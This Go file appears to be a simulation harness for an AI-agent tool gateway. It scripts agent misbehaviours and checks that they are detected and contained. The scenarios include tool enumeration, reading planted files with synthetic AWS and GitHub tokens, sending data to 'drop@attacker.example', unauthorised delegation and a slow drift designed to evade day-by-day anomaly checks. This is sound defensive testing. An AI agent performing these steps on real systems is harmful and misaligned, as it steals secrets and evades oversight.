// Package simulate runs scripted agent misbehaviours, and normal traffic,
// through a real gateway (the built-in demo upstream, the real MCP client
// over HTTP, the real detector, triage and response) and reports which
// were detected, how fast, how they were triaged and whether the session
// was contained: `portcullis simulate`.
package simulate

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	mathrand "math/rand/v2"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"time"

	"github.com/go-jose/go-jose/v4"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/portcullis-dev/portcullis/internal/config"
	"github.com/portcullis-dev/portcullis/internal/gateway"
	"github.com/portcullis-dev/portcullis/internal/ops"
	"github.com/portcullis-dev/portcullis/internal/token"
)

// Result is what happened to one scenario.
type Result struct {
	Scenario     string
	Misbehaviour bool     // false: normal traffic, which must raise nothing
	Expected     []string // the alert classes the scenario should raise
	Contain      bool     // the playbook should contain the session
	Alerts       []string // the classes raised
	Verdicts     []string // their triage verdicts
	Responses    []string // the steps taken
	Contained    bool     // the session's next call was refused
	Detected     time.Duration
	Note         string
}

// OK reports whether the scenario went as expected: normal traffic
// raised nothing; a misbehaviour raised every expected class, and its
// session was contained exactly when the playbook says.
func (r Result) OK() bool {
	if !r.Misbehaviour {
		return len(r.Alerts) == 0 && !r.Contained
	}
	if r.Contained != r.Contain {
		return false
	}
	for _, c := range r.Expected {
		if !slices.Contains(r.Alerts, c) {
			return false
		}
	}
	return true
}

const policyText = `
permit (principal in Role::"workers", action == Action::"call_tool", resource in Upstream::"demo")
when { resource.read_only_hint };
permit (principal in Role::"workers", action == Action::"call_tool", resource == Tool::"demo__send_message");
permit (principal in Role::"night", action == Action::"call_tool", resource in Upstream::"demo")
when { resource.read_only_hint };
permit (principal in Role::"analysts", action == Action::"call_tool", resource in Upstream::"demo");
permit (principal == Agent::"orchestrator", action == Action::"delegate", resource == Agent::"helper");
`

// config is the simulation's gateway: one agent per scenario (windows are
// per agent), baselines by role, and a playbook. The night role's active
// hours are an hour that starts six hours from now: any call now is off
// hours.
func configFor(dir string, now time.Time) string {
	from := now.UTC().Add(6 * time.Hour)
	to := from.Add(time.Hour)
	return fmt.Sprintf(`version: 1
data_dir: %s/data
listen: {address: "127.0.0.1:0", admin: "127.0.0.1:0"}
policy: {paths: [%s/policy.cedar]}
agents:
  - {name: worker, roles: [workers]}
  - {name: prober, roles: [workers]}
  - {name: burster, roles: [workers]}
  - {name: exfil, roles: [workers]}
  - {name: nightowl, roles: [night]}
  - {name: hunter, roles: [workers]}
  - {name: orchestrator, roles: [workers]}
  - {name: helper, roles: [workers]}
  - {name: reporter, roles: [workers]}
  - {name: drifter, roles: [analysts]}
upstreams: [{name: demo, builtin: demo}]
# The slow drift compresses days of calls into seconds: the budget's
# real-time rate cap and repeat breaker would read that as a flood.
limits: {agent_calls_per_minute: -1, repeat_call_limit: -1}
tools:
  - {name: demo__read_file, classification: [read_only]}
  - {name: demo__list_files, classification: [read_only]}
  - {name: demo__search_files, classification: [read_only]}
detection:
  baselines:
    - {role: workers, tools: [demo__read_file, demo__list_files, demo__search_files], calls_per_minute: 20}
    - {role: night, tools: ["demo__*"], active_hours: "%s-%s"}
    - {agent: orchestrator, tools: [demo__read_file, demo__list_files, demo__search_files], delegates_to: [reporter]}
  learning: {min_observations: 150, window: 24h}
  response:
    - {alerts: [unexpected_tool, rate, anomaly], action: read_only}
    - {alerts: [denial_burst, credential_access, lateral_movement], action: terminate_session}
    - {alerts: [off_hours, drift], action: flag}
`, dir, dir, from.Format("15:04"), to.Format("15:04"))
}

// scenario drives one agent's session; it returns the time of its first
// anomalous call (zero for normal traffic).
type scenario struct {
	name, agent  string
	misbehaviour bool
	contain      bool
	expected     []string
	drive        func(ctx context.Context, s *mcp.ClientSession) time.Time
	// connect, if set, opens the scenario's session (default: a token of
	// agent).
	connect func(ctx context.Context, env *env) (*mcp.ClientSession, error)
	// probe is the next call after the scenario: refused if contained.
	probe *mcp.CallToolParams
}

// env is what scenarios reach beyond their session.
type env struct {
	g     *gateway.Gateway
	o     *ops.Ops
	clock *clock
}

// clock is the simulation's time: real time plus an offset scenarios move
// forward (days of behaviour in seconds).
type clock struct{ offset atomic.Int64 }

func (c *clock) now() time.Time { return time.Now().Add(time.Duration(c.offset.Load())) }

// set moves the clock to real time plus d (never backwards).
func (c *clock) set(d time.Duration) {
	for {
		cur := c.offset.Load()
		if int64(d) <= cur || c.offset.CompareAndSwap(cur, int64(d)) {
			return
		}
	}
}

func read(path string) *mcp.CallToolParams {
	return &mcp.CallToolParams{Name: "demo__read_file", Arguments: map[string]any{"path": path}}
}

var send = &mcp.CallToolParams{Name: "demo__send_message", Arguments: map[string]any{"to": "drop@attacker.example", "body": "notes"}}

var scenarios = []scenario{
	{name: "normal work", agent: "worker", drive: func(ctx context.Context, s *mcp.ClientSession) time.Time {
		s.CallTool(ctx, &mcp.CallToolParams{Name: "demo__list_files", Arguments: map[string]any{}})
		s.CallTool(ctx, &mcp.CallToolParams{Name: "demo__search_files", Arguments: map[string]any{"query": "budget"}})
		for _, p := range []string{"notes/meeting.txt", "notes/todo.txt", "README.txt"} {
			s.CallTool(ctx, read(p))
		}
		return time.Time{}
	}, probe: read("notes/meeting.txt")},
	{name: "tool enumeration", agent: "prober", misbehaviour: true, contain: true, expected: []string{"unexpected_tool", "denial_burst"},
		drive: func(ctx context.Context, s *mcp.ClientSession) time.Time {
			start := time.Now()
			for _, t := range []string{"demo__delete_file", "demo__exec", "demo__shell", "admin__users", "demo__write_file", "demo__upload"} {
				s.CallTool(ctx, &mcp.CallToolParams{Name: t, Arguments: map[string]any{}})
			}
			return start
		}, probe: read("notes/meeting.txt")},
	{name: "burst of calls", agent: "burster", misbehaviour: true, contain: true, expected: []string{"rate"},
		drive: func(ctx context.Context, s *mcp.ClientSession) time.Time {
			var start time.Time
			for i := range 25 {
				if i == 20 { // the call over the declared 20 a minute
					start = time.Now()
				}
				s.CallTool(ctx, read("notes/meeting.txt"))
			}
			return start
		}, probe: &mcp.CallToolParams{Name: "demo__send_message", Arguments: map[string]any{"to": "bob@example.com", "body": "hi"}}},
	{name: "bulk read, then external send", agent: "exfil", misbehaviour: true, contain: true, expected: []string{"unexpected_tool"},
		drive: func(ctx context.Context, s *mcp.ClientSession) time.Time {
			s.CallTool(ctx, &mcp.CallToolParams{Name: "demo__search_files", Arguments: map[string]any{"query": "password"}})
			for _, p := range []string{"notes/meeting.txt", "notes/todo.txt"} {
				s.CallTool(ctx, read(p))
			}
			start := time.Now()
			s.CallTool(ctx, send)
			return start
		}, probe: send}, // the second send: held to read-only tools
	{name: "off-hours use", agent: "nightowl", misbehaviour: true, expected: []string{"off_hours"},
		drive: func(ctx context.Context, s *mcp.ClientSession) time.Time {
			start := time.Now()
			s.CallTool(ctx, read("notes/meeting.txt"))
			return start
		}, probe: read("notes/todo.txt")},
	{name: "credential hunting", agent: "hunter", misbehaviour: true, contain: true, expected: []string{"credential_access"},
		drive: func(ctx context.Context, s *mcp.ClientSession) time.Time {
			s.CallTool(ctx, &mcp.CallToolParams{Name: "demo__search_files", Arguments: map[string]any{"query": "key"}})
			start := time.Now()
			for _, p := range []string{"ops/deploy.env", "ops/ci-token.txt"} {
				s.CallTool(ctx, read(p))
			}
			return start
		}, probe: read("notes/meeting.txt")},
	{name: "lateral movement by delegation", agent: "helper", misbehaviour: true, contain: true, expected: []string{"lateral_movement"},
		connect: delegated, drive: func(ctx context.Context, s *mcp.ClientSession) time.Time {
			start := time.Now()
			s.CallTool(ctx, &mcp.CallToolParams{Name: "demo__list_files", Arguments: map[string]any{}})
			return start
		}, probe: read("notes/meeting.txt")},
}

// secrets are the credentials the hunter finds lying in the demo folder
// (synthetic, built at run time so that the repository holds no literal a
// scanner would flag).
var secrets = map[string]string{
	"ops/deploy.env":    "AWS_REGION=eu-west-1\nAWS_ACCESS_KEY_ID=" + "AKIA" + "Z7QK4XJ2M3NB5VHT" + "\n",
	"ops/ci-token.txt":  "CI uses GITHUB_TOKEN=" + "ghp_" + "R8mZ2qKx7TnW4vLc9YbP3sHd6JfA1uGe0QiO" + " for releases\n",
	"ops/key-notes.txt": "Keys rotate every quarter.\n",
}

// delegated opens the session of an agent acting on a delegation: the
// orchestrator starts a task for a user, then delegates part of it to the
// helper (OAuth 2.0 token exchange, DPoP-bound), which its baseline does
// not expect (it delegates to the reporter only).
func delegated(ctx context.Context, e *env) (*mcp.ClientSession, error) {
	oKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	hKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	oJKT, _ := token.Thumbprint(oKey.Public())
	hJKT, _ := token.Thumbprint(hKey.Public())
	parent, _, err := e.o.StartTask(ctx, token.Task{Agent: "orchestrator", User: "alice", Purpose: "weekly report",
		Tools: []string{"demo__list_files", "demo__read_file"}, Budget: 20, Depth: 1, JKT: oJKT}, "", 10*time.Minute, "simulate")
	if err != nil {
		return nil, err
	}
	endpoint := "http://" + e.g.AgentAddr() + "/oauth/token"
	form := url.Values{"grant_type": {"urn:ietf:params:oauth:grant-type:token-exchange"}, "subject_token": {parent},
		"subject_token_type": {"urn:ietf:params:oauth:token-type:access_token"}, "audience": {"helper"},
		"scope": {"demo__list_files demo__read_file"}, "budget": {"5"}, "dpop_jkt": {hJKT}}
	req, err := http.NewRequestWithContext(ctx, "POST", endpoint, strings.NewReader(form.Encode()))
	if err != nil {
		return nil, err
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	proof, err := token.Proof(oKey, jose.ES256, "POST", endpoint, parent, rand.Text(), time.Now())
	if err != nil {
		return nil, err
	}
	req.Header.Set("DPoP", proof)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	var out struct {
		AccessToken string `json:"access_token"`
		Error       string `json:"error_description"`
	}
	if err := json.NewDecoder(io.LimitReader(resp.Body, 1<<20)).Decode(&out); err != nil || out.AccessToken == "" {
		return nil, fmt.Errorf("delegation refused (%s): %s %v", resp.Status, out.Error, err)
	}
	c := mcp.NewClient(&mcp.Implementation{Name: "simulated-helper", Version: "1"}, nil)
	return c.Connect(ctx, &mcp.StreamableClientTransport{Endpoint: e.g.AgentURL(),
		HTTPClient: &http.Client{Transport: &token.DPoPTransport{Token: out.AccessToken, Key: hKey}}, MaxRetries: -1}, nil)
}

// drift is the slow-drift scenario, run last on the simulated clock: an
// analyst agent works for four days (its learning period), then over
// twenty days sends a little more mail and reads a little less each day.
// No day looks anomalous against the day before; the divergence from the
// known-good reference is what is caught, and how many simulated days it
// took is the detection time.
func drift(ctx context.Context, e *env) (Result, error) {
	r := Result{Scenario: "slow drift over simulated days", Misbehaviour: true, Expected: []string{"drift"}}
	tok, _, err := e.g.IssueToken(ctx, "drifter", 10*time.Minute)
	if err != nil {
		return r, err
	}
	rng := mathrand.New(mathrand.NewPCG(7, 11))
	var first time.Time
	for day := range 24 {
		f := max(float64(day-4), 0) / 20
		mix := []struct {
			p *mcp.CallToolParams
			w float64
		}{
			{read("notes/meeting.txt"), 50 * (1 - f)},
			{&mcp.CallToolParams{Name: "demo__list_files", Arguments: map[string]any{}}, 30},
			{&mcp.CallToolParams{Name: "demo__search_files", Arguments: map[string]any{"query": "plan"}}, 15},
			{&mcp.CallToolParams{Name: "demo__send_message", Arguments: map[string]any{"to": "bob@example.com", "body": "summary"}}, 5 + 60*f},
		}
		var total float64
		for _, m := range mix {
			total += m.w
		}
		for sess := range 2 {
			c := mcp.NewClient(&mcp.Implementation{Name: "simulated-drifter", Version: "1"}, nil)
			s, err := c.Connect(ctx, &mcp.StreamableClientTransport{Endpoint: e.g.AgentURL(), HTTPClient: &http.Client{Transport: token.BearerTransport{Token: tok}}, MaxRetries: -1}, nil)
			if err != nil {
				return r, err
			}
			for i := range 20 {
				e.clock.set(time.Duration(day)*24*time.Hour + time.Duration(sess*20+i)*30*time.Second)
				if day == 5 && first.IsZero() {
					first = e.clock.now()
				}
				x := rng.Float64() * total
				p := mix[len(mix)-1].p
				for _, m := range mix {
					if x -= m.w; x < 0 {
						p = m.p
						break
					}
				}
				// Calls differ as real work does (identical calls repeated
				// open the breaker).
				q := *p
				q.Arguments = map[string]any{}
				for k, v := range p.Arguments.(map[string]any) {
					q.Arguments.(map[string]any)[k] = v
				}
				args := q.Arguments.(map[string]any)
				switch p.Name {
				case "demo__read_file":
					args["path"] = []string{"notes/meeting.txt", "notes/todo.txt", "README.txt", "reports/summary.txt"}[i%4]
				case "demo__search_files":
					args["query"] = fmt.Sprintf("plan %d", day*40+sess*20+i)
				case "demo__send_message":
					args["body"] = fmt.Sprintf("summary %d", day*40+sess*20+i)
				}
				if _, err := s.CallTool(ctx, &q); err != nil {
					s.Close()
					return r, fmt.Errorf("day %d: %w", day, err)
				}
			}
			s.Close()
		}
	}
	err = collect(ctx, e.o, "drifter", first, &r)
	return r, err
}

// Run runs every scenario against a fresh gateway in dir.
func Run(ctx context.Context, dir string) ([]Result, error) {
	if err := os.WriteFile(filepath.Join(dir, "policy.cedar"), []byte(policyText), 0o600); err != nil {
		return nil, err
	}
	cfgPath := filepath.Join(dir, "portcullis.yaml")
	if err := os.WriteFile(cfgPath, []byte(configFor(dir, time.Now())), 0o600); err != nil {
		return nil, err
	}
	cfg, err := config.Load(cfgPath)
	if err != nil {
		return nil, err
	}
	clk := &clock{}
	g, err := gateway.New(cfg, gateway.Options{Log: slog.New(slog.NewTextHandler(io.Discard, nil)), Now: clk.now})
	if err != nil {
		return nil, err
	}
	if err := g.Listen(); err != nil {
		return nil, err
	}
	gctx, stop := context.WithCancel(ctx)
	done := make(chan error, 1)
	go func() { done <- g.Run(gctx) }()
	defer func() { stop(); <-done }()
	wctx, cancel := context.WithTimeout(ctx, 30*time.Second)
	err = g.Proxy().WaitReady(wctx)
	cancel()
	if err != nil {
		return nil, fmt.Errorf("the simulation's gateway: %w", err)
	}
	o, err := ops.Open(cfg)
	if err != nil {
		return nil, err
	}
	defer o.Close()
	for name, body := range secrets {
		p := filepath.Join(ops.DataDir(cfg), gateway.DemoDir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			return nil, err
		}
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			return nil, err
		}
	}
	e := &env{g: g, o: o, clock: clk}
	var out []Result
	for _, sc := range scenarios {
		r, err := run(ctx, e, sc)
		if err != nil {
			return out, fmt.Errorf("%s: %w", sc.name, err)
		}
		out = append(out, r)
	}
	r, err := drift(ctx, e)
	if err != nil {
		return out, fmt.Errorf("slow drift: %w", err)
	}
	return append(out, r), nil
}

func run(ctx context.Context, e *env, sc scenario) (Result, error) {
	r := Result{Scenario: sc.name, Misbehaviour: sc.misbehaviour, Expected: sc.expected, Contain: sc.contain}
	connect := sc.connect
	if connect == nil {
		connect = func(ctx context.Context, e *env) (*mcp.ClientSession, error) {
			tok, _, err := e.g.IssueToken(ctx, sc.agent, 10*time.Minute)
			if err != nil {
				return nil, err
			}
			c := mcp.NewClient(&mcp.Implementation{Name: "simulated-" + sc.agent, Version: "1"}, nil)
			return c.Connect(ctx, &mcp.StreamableClientTransport{Endpoint: e.g.AgentURL(), HTTPClient: &http.Client{Transport: token.BearerTransport{Token: tok}}, MaxRetries: -1}, nil)
		}
	}
	s, err := connect(ctx, e)
	if err != nil {
		return r, err
	}
	defer s.Close()
	first := sc.drive(ctx, s)
	_, perr := s.CallTool(ctx, sc.probe)
	r.Contained = perr != nil && strings.Contains(perr.Error(), "contained")
	err = collect(ctx, e.o, sc.agent, first, &r)
	return r, err
}

// collect fills r with the alerts raised for agent, their triage and the
// steps taken, waiting for triage (off the hot path).
func collect(ctx context.Context, o *ops.Ops, agent string, first time.Time, r *Result) error {
	deadline := time.Now().Add(10 * time.Second)
	for {
		views, err := o.Alerts(ctx, "all", 0)
		if err != nil {
			return err
		}
		r.Alerts, r.Verdicts, r.Responses = nil, nil, nil
		triaged := true
		var earliest time.Time
		for _, v := range views {
			if v.Alert.Agent != agent {
				continue
			}
			r.Alerts = append(r.Alerts, string(v.Alert.Code))
			if earliest.IsZero() || v.Alert.Time.Before(earliest) {
				earliest = v.Alert.Time
			}
			if v.Triage == nil {
				triaged = false
			} else {
				r.Verdicts = append(r.Verdicts, string(v.Triage.Code))
			}
			for _, resp := range v.Responses {
				r.Responses = append(r.Responses, string(resp.Code))
			}
		}
		if !first.IsZero() && !earliest.IsZero() {
			r.Detected = max(earliest.Sub(first), 0)
		}
		if triaged || time.Now().After(deadline) {
			if !triaged {
				r.Note = "triage did not finish in 10 s"
			}
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	slices.Sort(r.Alerts)
	r.Alerts = slices.Compact(r.Alerts)
	slices.Sort(r.Verdicts)
	r.Verdicts = slices.Compact(r.Verdicts)
	slices.Sort(r.Responses)
	r.Responses = slices.Compact(r.Responses)
	return nil
}

// Table renders results for people.
func Table(rs []Result) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-32s %-8s %-30s %-22s %-30s %-9s %s\n", "SCENARIO", "RESULT", "ALERTS", "TRIAGE", "RESPONSE", "CONTAINED", "ALERT AFTER")
	for _, r := range rs {
		res := "ok"
		if !r.OK() {
			res = "MISSED"
			if !r.Misbehaviour {
				res = "FALSE"
			}
		}
		det := "-"
		switch {
		case r.Detected >= 24*time.Hour:
			det = fmt.Sprintf("%.1f days (simulated)", r.Detected.Hours()/24)
		case r.Detected > 0 || len(r.Alerts) > 0 && r.Misbehaviour:
			det = r.Detected.Round(time.Microsecond).String()
		}
		fmt.Fprintf(&b, "%-32s %-8s %-30s %-22s %-30s %-9v %s\n", r.Scenario, res, dash(r.Alerts), dash(r.Verdicts), dash(r.Responses), r.Contained, det)
	}
	return b.String()
}

func dash(s []string) string {
	if len(s) == 0 {
		return "-"
	}
	return strings.Join(s, ",")
}

// ErrFailed: a misbehaviour went undetected or normal traffic raised an
// alert.
var ErrFailed = errors.New("simulation: a misbehaviour went undetected, or normal traffic raised an alert")
